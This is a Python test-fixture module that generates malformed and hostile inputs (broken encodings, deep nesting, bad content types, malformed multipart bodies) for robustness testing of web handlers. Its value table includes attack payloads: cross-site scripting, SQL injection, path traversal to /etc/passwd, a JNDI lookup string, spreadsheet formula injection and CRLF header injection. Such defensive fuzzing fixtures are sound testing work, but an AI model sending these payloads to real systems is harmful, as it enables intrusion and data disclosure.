# ruff: noqa: E501 (tables are easier to read in one line each)
"""What strangers, robots and tired people send: every value that broke somebody's program once."""

from collections.abc import Iterator
from urllib.parse import quote_from_bytes

DEEP = 10_000

# As bytes, since some of it is no text at all.
VALUES: dict[str, bytes] = {
    "nothing": b"",
    "blank": b"   ",
    "long": b"x" * 10_000,
    "very long": b"_" * 40_000,
    "null byte": b"a\0b",
    "broken UTF-8": b"\xff\xfe\xc3(",
    "lone surrogate": b"\xed\xa0\x80",
    "markup": b"<script>alert(1)</script>\"'><img src=x onerror=alert(1)>",
    "formula": b"=cmd|' /C calc'!A0",
    "right to left": "\u202eabc\u200f\u2066".encode(),
    "emoji": "👩‍👩‍👧‍👦🏴󠁧󠁢".encode(),
    "other digits": "٣²४".encode(),
    "huge number": b"99999999999999999999",
    "64 bits and one": b"9223372036854775808",
    "endless number": b"9" * 5_000,
    "negative": b"-1",
    "exponent": b"1e999",
    "not a number": b"NaN",
    "snan": b"sNaN123",
    "first day": b"0001-01-01",
    "early day": b"0001-01-05",
    "last day": b"9999-12-31",
    "last minute": b"9999-12-31T23:59",
    "nested": b"[" * DEEP,
    "object": b'{"a": [1]}',
    "broken address": b"http://[",
    "strange port": b"http://a:99999999999/",
    "odd host": b"http://xn--\xc3\xbc.." + b"a" * 80 + b".example",
    "folder": b"../../../../etc/passwd",
    "template": b"{{ 7|add:7 }}{% debug %}%s%n${jndi:ldap://x}",
    "quote": b"' OR 1=1; --",
    "line ends": b"a\r\nSet-Cookie: x=1\r\n\r\n",
    "base64": b"cD1hYmM=",
}


DAYS = ("first day", "early day", "last day", "last minute")


def encoded(name: str, value: bytes) -> str:
    """As it stands in a query string or a urlencoded body."""
    return f"{quote_from_bytes(name.encode(), safe='')}={quote_from_bytes(value, safe='')}"


def each() -> Iterator[tuple[str, bytes]]:
    """Every value with its name."""
    yield from VALUES.items()


def bodies(names: list[str]) -> Iterator[str]:
    """Urlencoded forms: all fields hostile alike; each field absent and twice."""
    for value in VALUES.values():
        yield "&".join(encoded(name, value) for name in names)
    yield ""
    yield "&".join(encoded(name, b"1") + "&" + encoded(name, b"2") for name in names)
    yield "&".join(encoded(f"{name}[]", b"1") for name in names)


def json_bodies(names: list[str]) -> Iterator[bytes]:
    """JSON in every wrong shape, and each value in all of the fields at once."""
    for value in VALUES.values():
        text = value.decode("utf-8", "backslashreplace").encode("unicode_escape").decode().replace('"', "'")
        text = text.replace("\\x", "\\u00").replace("\\'", "'").replace("\\U", "u").replace("\\u005c", "\\\\")
        yield _object(names, f'"{text}"')
    shapes = ("null", "true", "[]", "{}", "[[1]]", '{"a": {}}', "9" * 400, "-1", "1e999", "-1e-999", "NaN")
    shapes += (
        "Infinity",
        '"\\ud800"',
        '"\\u0000"',
        "9" * 5_000,
        "0.1234567890123456789",
        "[" * 50 + "]" * 50,
    )
    for shape in shapes:
        yield _object(names, shape)
    yield from (b"", b"{", b"[]", b"null", b'"text"', b"1", b"NaN", b"\xff\xfe", b"\xef\xbb\xbf{}", b"\0")
    yield b"[" * DEEP
    yield b"[" * DEEP + b"]" * DEEP
    yield b'{"a":' * DEEP + b"1" + b"}" * DEEP
    yield _object(names, "1")[:-1] + b", " + _object(names, "2")[1:]


def _object(names: list[str], value: str) -> bytes:
    return ("{" + ", ".join(f'"{name}": {value}' for name in names) + "}").encode("utf-8", "replace")


# Content types that some library answers with an exception of its own.
KINDS = (
    "application/json",
    "application/json; charset=zip",
    "application/json; charset=utf-16",
    "application/x-www-form-urlencoded",
    "application/x-www-form-urlencoded; charset=hex",
    "application/x-www-form-urlencoded; charset=cp1251",
    "multipart/form-data",
    "multipart/form-data; boundary=" + "x" * 300,
    "multipart/form-data; boundary=x; charset=hex",
    "multipart/form-data; boundary=x; charset=utf-7",
    "text/plain; charset=nothing",
    "text/plain; charset=base64",
    "text/plain; charset=undefined",
    "image/png",
    "/",
    "",
)
MULTIPARTS = (
    b"",
    b"--x\r\n",
    b"--x--\r\n",
    b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n\xff\0\r\n--x--\r\n',
    b'--x\r\nContent-Disposition: form-data; name="file"; filename="../\xff.csv"\r\n\r\n\0\r\n--x--\r\n',
    b"--x\r\nContent-Disposition: form-data; name=\"file\"; filename*=bad'x'%zz\r\n\r\n\0\r\n--x--\r\n",
    b'--x\r\nContent-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64\r\n\r\n!\r\n--x--\r\n',
    b"".join(b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n' for _ in range(1_100))
    + b"--x--\r\n",
    b'--x\r\nContent-Disposition: form-data; name="a"\r\nContent-Type: multipart/mixed; boundary=y\r\n\r\n--x--',
)
